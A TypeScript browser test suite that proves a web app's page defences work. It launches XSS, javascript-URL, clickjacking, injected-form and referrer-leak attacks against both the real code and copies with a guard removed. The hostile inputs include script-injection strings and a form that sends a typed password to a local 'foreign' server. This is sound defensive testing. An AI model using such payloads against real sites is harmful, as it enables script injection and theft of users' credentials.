/**
 * Attacks on the pages in a browser, each with its proof: repelled by the pages as they are, successful on a copy
 * without the guard. Where two guards stop the same attack, each is proved with the other taken out on both sides.
 */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Browser, Page as Tab } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import type { Page } from '../../src/web/pages/model.ts'
import type { createPages } from '../../src/web/pages/pages.ts'
import { context, gallery, loginForm, user } from '../pages/gallery.ts'
import { type Site, startSite } from '../pages/site.ts'
import { startChromium } from '../support/chromium.ts'
import { type Edit, makeMutant } from '../support/mutant.ts'

interface PageAttack {
  id: string
  title: string
  guard: string
  edits: readonly Edit[]
  /** Taken out on both sides. */
  probe?: readonly Edit[]
  page: Page
  /** Attacks; tells the harm done, undefined when there is none. */
  run(tab: Tab, site: Site, foreign: Foreign): Promise<string | undefined>
}

/** Somebody else's site: what it was asked, and pages it serves. */
interface Foreign {
  url: string
  asked: { path: string; referer: string | undefined }[]
  html: string
}

const noEscaping: Edit = {
  file: 'std/html-places.ts',
  find: 'text.replace(/[&<>"\']/g, (character) => entities[character] as string)',
  replace: 'text',
}

const noPolicy: Edit = {
  file: 'web/pages/pages.ts',
  find: "      'Content-Security-Policy': policy,\n",
  replace: '      ...(policy ? {} : {}),\n',
}

const hello = (givenName: string): Page => ({ ...context, page: 'home', user: { ...user, givenName } })

const ran = async (tab: Tab) => ((await tab.evaluate('globalThis.harm')) ? 'the script ran' : undefined)

const script = '<img src=x onerror="globalThis.harm = true"><script>globalThis.harm = true</script>'

let address: Foreign

const attacks: PageAttack[] = [
  {
    id: 'ATTACK-J8 GOAL-L2',
    title: 'a script as a name, where no policy stands in its way',
    guard: 'escaping',
    probe: [noPolicy],
    edits: [noEscaping],
    page: hello(script),
    async run(tab, site) {
      await tab.goto(`${site.url}/page`)
      return ran(tab)
    },
  },
  {
    id: 'ATTACK-J8 GOAL-L2',
    title: 'a script as a name that came through unescaped',
    guard: 'the policy',
    probe: [noEscaping],
    edits: [noPolicy],
    page: hello(script),
    async run(tab, site) {
      await tab.goto(`${site.url}/page`)
      return ran(tab)
    },
  },
  {
    id: 'ATTACK-J8',
    title: 'an address that is a script',
    guard: 'the check of addresses',
    probe: [noPolicy],
    edits: [
      {
        file: 'std/html-places.ts',
        find: "return !hasScheme || safe.test(read) ? url : 'about:invalid'",
        replace: 'return url',
      },
    ],
    page: {
      ...context,
      page: 'login',
      form: loginForm(),
      providers: [{ providerId: 'x', name: 'X', href: ' java\nscript:void (globalThis.harm = true)' }],
    },
    async run(tab, site) {
      await tab.goto(`${site.url}/page`)
      await tab.getByRole('link', { name: 'Continue with X' }).click()
      return ran(tab)
    },
  },
  {
    id: 'GOAL-L2',
    title: 'a page in the frame of a foreign site, under its clicks',
    guard: 'the ban on frames',
    edits: [{ file: 'web/pages/policy.ts', find: '    "frame-ancestors \'none\'",\n', replace: '' }],
    page: gallery.get('profile') as Page,
    async run(tab, site, foreign) {
      foreign.html = `<iframe src="${site.url}/page"></iframe>`
      await tab.goto(foreign.url)
      const frame = tab.frames()[1]
      await frame?.waitForLoadState()
      return (await frame?.content())?.includes('Your profile') ? 'the page is framed' : undefined
    },
  },
  {
    id: 'GOAL-L2',
    title: 'a form that is slipped in, which sends what is typed elsewhere',
    guard: 'the list of targets of forms',
    probe: [noEscaping],
    edits: [{ file: 'web/pages/policy.ts', find: '; form-action ', replace: '; ignored ' }],
    page: hello('FORM'),
    async run(tab, site) {
      await tab.goto(`${site.url}/page`)
      const press = `new Promise((resolve) => {
        addEventListener('securitypolicyviolation', () => resolve('refused'))
        document.querySelector('#steal').click()
      })`
      // a page that is left never answers
      const end = await tab.evaluate(press).catch(() => 'left')
      return end === 'left' ? 'the password went elsewhere' : undefined
    },
  },
  {
    id: 'GOAL-L3',
    title: 'a foreign site that is visited from a page whose address holds a token',
    guard: 'the referrer policy',
    edits: [
      {
        file: 'web/pages/pages.ts',
        find: "'Referrer-Policy': 'strict-origin'",
        replace: "'Referrer-Policy': 'unsafe-url'",
      },
    ],
    page: {
      ...context,
      page: 'login',
      form: loginForm(),
      providers: [{ providerId: 'x', name: 'X', href: 'FOREIGN' }],
    },
    async run(tab, site, foreign) {
      await tab.goto(`${site.url}/page?sptoken=secret`)
      await tab.getByRole('link', { name: 'Continue with X' }).click()
      await tab.waitForURL(`${foreign.url}/**`)
      return foreign.asked.some(({ referer }) => referer?.includes('secret')) ? 'the token is known there' : undefined
    },
  },
]

// a browser on a busy machine takes its time
vi.setConfig({ testTimeout: 120_000 })

let browser: Browser
let server: Server

beforeAll(async () => {
  browser = await startChromium()
  server = createServer((request, response) => {
    address.asked.push({ path: request.url ?? '', referer: request.headers.referer })
    response.writeHead(200, { 'Content-Type': 'text/html' }).end(address.html)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  address = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked: [], html: '' }
})

afterAll(async () => {
  await browser?.close()
  server?.close()
})

/** Puts the foreign site's address where a page is to hold it. */
function aimed(page: Page): Page {
  const form = `<form action="${address.url}/stolen"><input name="password" value="x"><button id="steal">Log In</button></form>`
  return JSON.parse(JSON.stringify(page).replaceAll('FOREIGN', address.url).replaceAll('"FORM"', JSON.stringify(form)))
}

async function harm({ page, run }: PageAttack, edits: readonly Edit[]): Promise<string | undefined> {
  const mutant = edits.length > 0 ? await makeMutant(edits) : undefined
  try {
    const made: typeof createPages | undefined =
      mutant && (await import(join(mutant.root, 'src/web/pages/pages.ts'))).createPages
    const target = page.page === 'profile' ? page : aimed(page)
    const site = await startSite(new Map([['page', target]]), {}, made)
    Object.assign(address, { asked: [], html: '' })
    const tab = await browser.newPage()
    try {
      return await run(tab, site, address)
    } finally {
      await tab.close()
      await site.close()
    }
  } finally {
    await mutant?.remove()
  }
}

describe('attacks on the pages in a browser', () => {
  for (const attack of attacks) {
    const { id, title, guard, edits, probe = [] } = attack
    test(`${id} ${title}: is repelled`, async () => {
      expect(await harm(attack, probe)).toBeUndefined()
    })
    test(`${id} ${title}: succeeds without ${guard}`, async () => {
      expect(await harm(attack, [...probe, ...edits]), 'the attack was repelled without its guard').toEqual(
        expect.any(String),
      )
    })
  }
})
